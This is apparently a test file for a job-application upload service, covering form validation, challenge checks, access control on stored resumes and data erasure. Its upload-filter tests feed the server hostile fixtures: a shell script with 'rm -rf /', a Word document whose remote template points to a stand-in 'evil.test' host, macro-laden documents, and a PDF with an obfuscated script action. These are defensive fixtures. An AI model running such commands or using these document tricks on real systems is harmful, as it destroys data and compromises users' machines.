import { sql } from 'kysely'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { solvedForm } from '../testing/challenge.ts'
import { type Answer, Client, pdf } from '../testing/client.ts'
import { waitUntil } from '../testing/running-app.ts'
import { rest, type Scene, startScene } from '../testing/scene.ts'
import { addJob } from '../testing/sent-forms.ts'
import { zipOf } from '../testing/zips.ts'

let scene: Scene
let visitor: Client
let job: string
beforeAll(async () => {
  scene = await startScene()
  visitor = new Client(scene.test)
  job = await addJob(scene)
})
afterAll(() => scene?.stop())
beforeEach(async () => {
  scene.test.time.now = new Date(scene.test.time.now.getTime() + 25 * 3_600_000)
  await scene.admin.as('admin', 'admin')
})

const docx = (more: Record<string, string> = {}) =>
  zipOf({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', ...more })
let people = 0
const typed = (change: object = {}): Record<string, string> => {
  people += 1
  const form = {
    job,
    name: 'Farida Irani',
    email: `farida${people}@mills.test`,
    mobile: `+91${9_811_300_000 + people}`,
    experience: '4',
  }
  return { ...form, ...change }
}

interface Resume {
  name: string
  content: Buffer
}
/** Sends the form as a browser does; `fileFirst` puts the fields after the file. */
const post = (fields: Record<string, string>, resume?: Resume, fileFirst = false): Promise<Answer> => {
  const boundary = '----opdesk-test'
  const part = (headers: string, content: Buffer | string) => [
    Buffer.from(`--${boundary}\r\ncontent-disposition: form-data; ${headers}\r\n\r\n`),
    Buffer.from(content),
    Buffer.from('\r\n'),
  ]
  const texts = Object.entries(fields).flatMap(([name, value]) => part(`name="${name}"`, value))
  const file = resume ? part(`name="resume"; filename="${resume.name}"`, resume.content) : []
  const parts = fileFirst ? [...file, ...texts] : [...texts, ...file]
  const payload = Buffer.concat([...parts, Buffer.from(`--${boundary}--\r\n`)])
  return visitor.call('POST', '/public/job-application', payload, { 'content-type': `multipart/form-data; boundary=${boundary}` })
}
const send = async (fields: Record<string, string>, resume?: Resume, fileFirst = false): Promise<Answer> =>
  post({ ...fields, challenge: await solvedForm(scene.test, 'job') }, resume, fileFirst)
const listed = async (search: string) => {
  await scene.test.settle()
  return (await scene.admin.get(`/admin/job-applications?search=${search}`)).body.data.records
}
const filesKept = async (): Promise<number> => {
  const { rows } = await sql<{ count: number }>`select count(*)::int as count from app.file`.execute(scene.test.deps.db)
  return rows[0]?.count ?? 0
}

test.each([
  ['before the resume', false],
  ['after the resume', true],
])('accepts an application with fields %s, and shows admins its resume', async (_, fileFirst) => {
  const form = typed()
  const content = pdf(`resume of ${form.email}`)
  const answer = await send(form, { name: 'My CV.pdf.exe', content }, fileFirst)
  expect([answer.status, answer.body.message]).toEqual([200, 'Application submitted successfully'])
  const [row] = await listed(form.email ?? '')
  expect(row).toMatchObject({
    name: 'Farida Irani',
    email: form.email,
    mobile: form.mobile,
    experience: 4,
    job: { _id: job, title: 'Claims officer' },
    times: 1,
    resumes: [{ name: 'My CV.pdf.exe.pdf', size: content.length }],
  })
  const file = await scene.admin.get(row.resumeUrl)
  expect(file.body).toEqual(content)
  expect(file.headers).toMatchObject({
    'content-type': 'application/pdf',
    'content-disposition': expect.stringMatching(/^attachment; filename="My CV\.pdf\.exe\.pdf"/),
    'content-security-policy': expect.stringContaining('sandbox'),
    'x-content-type-options': 'nosniff',
    'cache-control': 'no-store',
  })
  await rest(scene.test)
  const notices = (await scene.admin.get('/admin/notifications')).body.data.records
  expect(notices[0]).toMatchObject({ message: 'Somebody has applied for a job', page: '/admin/application-recieved' })
})

test('hides a resume from other callers at every address', async () => {
  const form = typed()
  await send(form, { name: 'cv.docx', content: docx() })
  const [row] = await listed(form.email ?? '')
  const file = String(row.resumeUrl).split('/').at(-1)
  await scene.test.addStaff('outsider', 'admin', { privileges: [] })
  const outsider = await new Client(scene.test).as('outsider', 'admin')
  expect((await outsider.get(row.resumeUrl)).status).toBe(403)
  expect((await visitor.get(row.resumeUrl)).status).toBe(401)
  expect((await scene.admin.get(`/files/${file}`)).status).toBe(404)
  for (const address of [`/admin/job-applications/other/resumes/${file}`, `/admin/job-applications/${row._id}/resumes/x'`])
    expect((await scene.admin.get(address)).status, address).toBe(404)
  expect((await scene.admin.get(row.resumeUrl)).headers['content-type']).toContain('wordprocessingml')
})

test('refuses a resume if the view names a file without an event', async () => {
  const { db } = scene.test.deps
  const rows = await db.selectFrom('job_application').select(['application_id', 'resumes']).execute()
  const [first, second] = rows.filter(({ resumes }) => resumes.length > 0)
  const [resume, other] = [first?.resumes.at(-1), second?.resumes.at(-1)]
  if (!first || !resume || !other) throw new Error('two applications with resumes are needed')
  expect(other.sha256).not.toBe(resume.sha256)
  const list = (resumes: typeof first.resumes) =>
    db
      .updateTable('job_application')
      .set({ resumes: JSON.stringify(resumes) as never })
      .where('application_id', '=', first.application_id)
      .execute()
  const seen = () => scene.admin.get(`/admin/job-applications/${first.application_id}/resumes/${resume.file_id}`)
  await list([{ ...resume, sha256: other.sha256 }])
  const { status, body } = await seen()
  await list(first.resumes)
  expect([status, body.code]).toEqual([500, 'document_changed'])
  expect((await seen()).status).toBe(200)
})

const TEMPLATE =
  '<Relationships><Relationship Type="x/attachedTemplate" Target="http://evil.test/a.dotm" TargetMode="External"/></Relationships>'

describe('the check of a resume', () => {
  const exe = Buffer.concat([
    Buffer.from('MZ\u0090\u0000'),
    Buffer.alloc(400),
    Buffer.from('This program cannot be run in DOS mode'),
  ])
  test.each([
    ['a Windows program', { name: 'resume.pdf', content: exe }, 415],
    ['an ELF program', { name: 'resume.docx', content: Buffer.from('\u007fELF\u0002\u0001\u0001') }, 415],
    ['a script', { name: 'resume.pdf', content: Buffer.from('#!/bin/sh\nrm -rf /\n') }, 415],
    ['a program before a PDF', { name: 'resume.pdf', content: Buffer.concat([exe, pdf('x')]) }, 415],
    ['HTML', { name: 'resume.pdf', content: Buffer.from('<!doctype html><script>alert(1)</script>') }, 415],
    ['a picture', { name: 'resume.png', content: Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex') }, 415],
    ['a zip of a program', { name: 'resume.docx', content: zipOf({ 'setup.exe': 'MZ' }) }, 415],
    ['a Java archive', { name: 'resume.docx', content: zipOf({ 'META-INF/MANIFEST.MF': 'Main-Class: A' }) }, 415],
    ['a document with macros', { name: 'resume.docx', content: docx({ 'word/vbaProject.bin': 'x' }) }, 415],
    [
      'a document with an embedded program',
      { name: 'resume.docx', content: docx({ 'word/embeddings/oleObject1.bin': 'MZ' }) },
      415,
    ],
    [
      'a document with a remote template',
      { name: 'resume.docx', content: docx({ 'word/_rels/settings.xml.rels': TEMPLATE }) },
      415,
    ],
    [
      'a PDF with a script',
      {
        name: 'resume.pdf',
        content: Buffer.from(String(pdf('x')).replace('/Catalog', '/Catalog/OpenAction<</S/J#61vaScript/JS(x)>>')),
      },
      415,
    ],
    ['an old Word document or installer', { name: 'resume.doc', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }, 415],
    ['an empty file', { name: 'resume.pdf', content: Buffer.alloc(0) }, 415],
    ['more than 5 MB', { name: 'resume.pdf', content: Buffer.concat([pdf('x'), Buffer.alloc(5 * 1_048_576)]) }, 413],
  ] as const)('refuses %s', async (_, resume, status) => {
    const before = await filesKept()
    const form = typed()
    const answer = await send(form, resume)
    expect([answer.status, answer.body.success]).toEqual([status, false])
    expect(answer.body.errors).toEqual([{ path: 'resume', message: answer.body.message }])
    expect(await filesKept()).toBe(before)
    expect(await listed(form.email ?? '')).toEqual([])
  })
})

test('does not read a resume without a solved challenge', async () => {
  const before = await filesKept()
  const answer = await post({ ...typed(), challenge: 'none' }, { name: 'cv.pdf', content: pdf('unread') })
  expect([answer.status, answer.body.code]).toEqual([422, 'challenge_failed'])
  const stolen = await solvedForm(scene.test, 'retail')
  expect((await post({ ...typed(), challenge: stolen }, { name: 'cv.pdf', content: pdf('unread') })).status).toBe(422)
  expect(await filesKept()).toBe(before)
})

test.each([
  ['job', '', 'Please select profile'],
  ['job', 'nowhere', 'Please select profile'],
  ['name', ' ', 'Please enter your name'],
  ['email', '', 'Please enter your email'],
  ['mobile', '', 'Mobile no. is required'],
  ['mobile', '12', 'Invalid mobile no.!'],
  ['experience', '', 'Experience is required'],
  ['experience', '-1', 'Minimum 0'],
  ['experience', '100', 'Maximum 99'],
  ['experience', '2.5', 'Please enter whole years'],
])('refuses the field %s with %j: %s', async (path, value, message) => {
  const { status, body } = await post({ ...typed({ [path]: value }), challenge: 'none' })
  expect([status, body.errors]).toEqual([400, [{ path, message }]])
})

test('refuses an application for a closed job', async () => {
  const closed = await addJob(scene, 'Night nurse')
  await scene.admin.patch(`/admin/jobs/${closed}`, { status: false })
  await scene.test.settle()
  const { status, body } = await send(typed({ job: closed }))
  expect([status, body.errors]).toEqual([400, [{ path: 'job', message: 'Please select profile' }]])
})

test('accepts an application without resume, and adds the resume of a repeat', async () => {
  const form = typed()
  expect((await send(form)).status).toBe(200)
  expect(await listed(form.email ?? '')).toMatchObject([{ resumeUrl: null, resumes: [] }])
  await send(form, { name: 'first.pdf', content: pdf('first') })
  await send(form, { name: 'second.pdf', content: pdf('second') })
  const rows = await listed(form.email ?? '')
  expect(rows).toMatchObject([{ times: 3, experience: 4, resumes: [{ name: 'first.pdf' }, { name: 'second.pdf' }] }])
  expect((await scene.admin.get(rows[0].resumeUrl)).body).toEqual(pdf('second'))
})

test('keeps an earlier application with the same number unchanged', async () => {
  const form = typed()
  await send(form, { name: 'own.pdf', content: pdf('own') })
  await send(typed({ mobile: form.mobile ?? '', name: 'Quite Another' }), { name: 'other.pdf', content: pdf('other') })
  const rows = await listed((form.mobile ?? '').slice(3))
  expect(rows).toMatchObject([
    { name: 'Quite Another', times: 1, resumes: [{ name: 'other.pdf' }] },
    { name: 'Farida Irani', email: form.email, times: 1, resumes: [{ name: 'own.pdf' }] },
  ])
})

test('erases name, address and file of an application', async () => {
  const form = typed({ name: 'Zubin Quick' })
  const content = pdf('erased with its application')
  await send(form, { name: 'Zubin Quick.pdf', content })
  const [row] = await listed(form.email ?? '')
  const { rows } = await sql<{ sha256: string }>`select sha256 from app.file where name = 'Zubin Quick.pdf'`.execute(
    scene.test.deps.db,
  )
  const sha256 = rows[0]?.sha256 ?? ''
  expect(await scene.test.deps.storage.has(sha256)).toBe(true)
  expect((await scene.admin.delete(`/admin/job-applications/${row._id}`)).body.message).toBe('Job application erased')
  expect((await scene.admin.delete(`/admin/job-applications/${row._id}`)).status).toBe(404)
  expect(await listed('Zubin')).toEqual([])
  expect((await scene.admin.get(row.resumeUrl)).status).toBe(404)
  await waitUntil(async () => !(await scene.test.deps.storage.has(sha256)))
  await waitUntil(async () => {
    const [received] = await scene.test.deps.store.read(`job_application-${row._id}`)
    return received?.data.name === 'erased'
  })
  const { rows: left } = await sql`
    select from log.events e where e::text ~ 'Zubin' union all select from app.file f where f::text ~ 'Zubin'
    union all select from app.recent_form f where f.record_id = ${row._id}`.execute(scene.test.deps.db)
  expect(left).toEqual([])
})
